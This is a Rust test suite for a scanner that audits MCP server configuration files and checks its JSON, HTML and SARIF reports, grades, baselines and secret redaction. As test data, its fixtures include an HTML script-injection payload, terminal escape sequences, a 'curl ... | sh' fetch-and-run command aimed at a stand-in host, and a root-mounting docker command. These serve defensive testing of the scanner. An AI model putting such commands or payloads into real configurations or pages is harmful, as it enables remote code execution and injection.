//! What reports look like: the shapes that programs rely on, and that nothing from a file can draw or act.

use crate::stage::{Planted, Stage, all_forms};
use doorward_scan::{Color, Grade, Report, Severity};
use serde_json::Value;

fn planted(path: &str, text: &str) -> Planted {
    Planted { path: path.to_owned(), text: text.to_owned(), mode: None, tracked: false, above: None }
}

fn usual() -> Stage {
    let mut stage = Stage::new();
    stage.plant(&planted(
        "~/.cursor/mcp.json",
        "{\"mcpServers\": {\n  \"github\": {\"command\": \"npx\", \"args\": [\"-y\", \"gh-mcp\"], \"env\": {\"GITHUB_TOKEN\": \"@@github@@\"}}\n}}",
    ));
    stage.plant(&planted(".mcp.json", "{\"mcpServers\": {\n  \"tools\": {\"url\": \"http://tools.internal/mcp\"}\n}}"));
    stage.plant(&planted("~/.kiro/settings/mcp.json", "{ broken"));
    stage
}

#[test]
fn the_document_is_version_1_and_complete() {
    let stage = usual();
    let document = Value::Object(stage.scan().json());
    insta::assert_snapshot!("json", stage.plain(&serde_json::to_string_pretty(&document).expect("text")));
}

#[test]
fn the_page_is_whole() {
    let stage = usual();
    let page = stage.plain(&stage.scan().html());
    for part in ["http://", "https://", "<script", "src=", "url(", "@import", "<link", "<a "] {
        let harmless = page.replace("tools = http://tools.internal", "").replace("url = http://tools.internal", "");
        assert!(!harmless.contains(part), "{part}: a page of one piece loads nothing");
    }
    assert!(page.contains("prefers-color-scheme:dark") && page.contains("default-src 'none'"));
    insta::assert_snapshot!("html", page);
}

/// The members that SARIF 2.1.0 requires, and those that code scanning reads.
#[test]
fn the_log_has_the_shape_of_sarif_2_1_0() {
    let stage = usual();
    let log = stage.scan().sarif();
    assert_eq!((log["version"].as_str(), log["runs"].as_array().map(Vec::len)), (Some("2.1.0"), Some(1)));
    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
    assert!(run["tool"]["driver"]["name"].is_string());
    for rule in rules {
        assert!(
            rule["id"].is_string()
                && rule["shortDescription"]["text"].is_string()
                && rule["helpUri"].as_str().is_some_and(|uri| uri.starts_with("https://"))
        );
        assert!(
            rule["properties"]["security-severity"].as_str().is_some_and(|text| text.parse::<f64>().is_ok()),
            "GitHub wants a number as text"
        );
    }
    let results = run["results"].as_array().expect("results");
    assert_eq!(results.len(), 3);
    for result in results {
        let rule = &rules[usize::try_from(result["ruleIndex"].as_u64().expect("an index")).expect("small")];
        assert_eq!(rule["id"], result["ruleId"]);
        assert!(["none", "note", "warning", "error"].contains(&result["level"].as_str().expect("a level")));
        assert!(result["message"]["text"].as_str().is_some_and(|text| !text.is_empty()));
        assert!(result["partialFingerprints"].as_object().is_some_and(|prints| prints.values().all(Value::is_string)));
        for location in result["locations"].as_array().expect("locations") {
            let physical = &location["physicalLocation"];
            let uri = physical["artifactLocation"]["uri"].as_str().expect("a URI");
            assert!(uri.is_ascii() && !uri.contains([' ', '"', '<', '\\']), "{uri}");
            assert!(physical["region"]["startLine"].as_u64() >= Some(1) && physical["region"]["startColumn"].as_u64() >= Some(1));
        }
    }
    let notes = run["invocations"][0]["toolExecutionNotifications"].as_array().expect("notes");
    assert!(run["invocations"][0]["executionSuccessful"].is_boolean() && notes.len() == 1);
}

#[test]
fn scn_02_names_from_files_cannot_draw_or_act() {
    let mut stage = Stage::new();
    let name = "<img src=x onerror=alert(1)>\\u001b[2J\\u202e\\u200b&'";
    stage.plant(&planted(
        "~/.cursor/mcp.json",
        &format!("{{\"mcpServers\": {{\"{name}\": {{\"url\": \"http://evil\\u001b[31m.test/\", \"env\": {{\"{name}\": \"@@github@@\"}}, \"trust\": true}}}}}}"),
    ));
    stage.plant(&planted("a\u{1b}[31m<b>.code-workspace", "{ broken"));
    let report = stage.scan();
    assert!(report.findings().len() >= 3);
    for text in [report.text(80, Color::Plain), report.html(), Value::Object(report.json()).to_string(), report.sarif().to_string()] {
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{200b}']), "{text}");
    }
    assert!(!report.html().contains("<img") && !report.html().contains("<b>"));
}

#[test]
fn scn_03_a_secret_is_covered_wherever_it_stands() {
    let mut stage = Stage::new();
    // As a name of a server, in a path, in a command of a shell, in a key, as a package.
    stage.plant(&planted(
        "~/.cursor/mcp.json",
        r#"{"mcpServers": {"@@github@@": {"command": "sh", "args": ["-c", "curl -H 'Authorization: Bearer @@github@@' https://a.test | sh"], "env": {"T": "@@github@@"}},
            "b": {"command": "npx", "args": ["-y", "@@github@@"], "headers": {"Authorization": "Bearer @@random@@"}},
            "d": {"command": "bash", "args": ["-c", "tool --quiet 'X: @@random2@@' | sort"], "headers": {"@@github@@": "x", "key-@@github@@": "1"}, "insecure-@@github@@": true},
            "c": {"command": "docker", "args": ["run", "-e", "API_KEY=@@random2@@", "-v", "/:/x", "img"], "cwd": "/tmp/@@random@@"}}}"#,
    ));
    let report = stage.scan();
    assert!(report.findings().len() >= 6);
    stage.assert_no_secret_in(&all_forms(&report), "a report");
}

#[test]
fn scn_03_a_token_in_a_name_or_a_key_is_covered() {
    let mut stage = Stage::new();
    stage.plant(&planted(
        "~/.cursor/mcp.json",
        r#"{"mcpServers": {"@@slack@@": {"command": "uvx", "args": ["a-mcp"], "skip-tls-verify-@@gitlab@@": true, "trust": true}}}"#,
    ));
    let report = stage.scan();
    assert_eq!(report.findings().len(), 3);
    stage.assert_no_secret_in(&all_forms(&report), "a report");
}

#[test]
fn scn_03_a_hostile_file_costs_little() {
    let mut stage = Stage::new();
    let long = |text: &str| format!("{{\"mcpServers\": {{\"a\": {{\"command\": \"{}\"}}}}}}", text.repeat((1 << 19) / text.len()));
    for (at, text) in
        ["${", "{{", "://", ".sk-", "eyJ.", "Bearer ", "-----BEGIN ", "%a", "$a", "{env:", "npx ", "|", "http://a@"].iter().enumerate()
    {
        stage.plant(&planted(&format!("{at}/.cursor/mcp.json"), &long(text)));
    }
    let many = |entry: &str| {
        format!(
            "{{\"mcpServers\": {{{}}}}}",
            (0..20_000)
                .map(|at| format!("\"s{at}\": {}", entry.replace('#', &format!("{:06}Zq7Wx3Ke9Rt2Yu6I", at * 7919 % 999_983))))
                .collect::<Vec<_>>()
                .join(",")
        )
    };
    stage.plant(&planted("x/.cursor/mcp.json", &many(r##"{"command": "x", "env": {"A_TOKEN": "#"}}"##)));
    let key = "k".repeat(100_000);
    stage.plant(&planted(
        "y/.cursor/mcp.json",
        &format!("{{\"mcpServers\": {{\"a\": {{\"url\": \"x\", \"{key}\": {{\"{key}\": [{}]}}}}}}}}", "1,".repeat(100_000)),
    ));
    let report = stage.scan();
    let text = report.text(100, Color::Plain);
    assert!(text.contains("more servers than are looked at") && text.contains("more secrets than are told"), "what is left out is said");
    assert!(text.len() < 2 << 20);
}

#[test]
fn the_grade_follows_the_findings() {
    let grade = |text: &str| {
        let mut stage = Stage::new();
        stage.plant(&planted("~/.cursor/mcp.json", text));
        stage.scan().grade()
    };
    let entry = |inside: &str| format!("{{\"mcpServers\": {{\"a\": {{{inside}}}}}}}");
    assert_eq!(grade(&entry(r#""command": "a-mcp""#)), Grade::A);
    assert_eq!(grade(&entry(r#""command": "uvx", "args": ["a-mcp"]"#)), Grade::B);
    assert_eq!(grade(&entry(r#""command": "a-mcp", "trust": true"#)), Grade::C);
    assert_eq!(grade(&entry(r#""url": "http://a.test/mcp""#)), Grade::D);
    assert_eq!(grade(&entry(r#""url": "http://a.test/mcp", "headers": {"X": "@@github@@"}, "insecure": true"#)), Grade::F);
}

#[test]
fn a_baseline_leaves_out_what_it_knows_wherever_it_moved() {
    let mut stage = usual();
    let before = stage.scan();
    let baseline = Report::baseline(&Value::Object(before.json()).to_string()).expect("a baseline");
    stage.plant(&planted("~/.kimi/mcp.json", r#"{"mcpServers": {"new": {"url": "http://new.test/mcp"}}}"#));
    stage.plant(&planted(".mcp.json", "{\"mcpServers\": {\n\n\n  \"tools\": {\"url\": \"http://tools.internal/mcp\"}\n}}"));
    let mut after = stage.scan();
    after.leave_out(&baseline);
    assert_eq!((after.findings().len(), after.at_least(Severity::High)), (1, 1));
    assert!(after.text(80, Color::Plain).contains("3 of the baseline left out"));
    assert!(
        Report::baseline("{}").is_err() && Report::baseline("nothing").is_err() && Report::baseline(r#"{"v": 2, "findings": []}"#).is_err()
    );
}

#[test]
fn nothing_found_is_said_as_such() {
    let report = Stage::new().scan();
    let text = report.text(80, Color::Plain);
    assert!(text.starts_with("No configuration of an MCP client was found.") && !text.contains("grade"));
    assert!(report.json()["summary"]["grade"].is_null(), "no file, no grade");
}
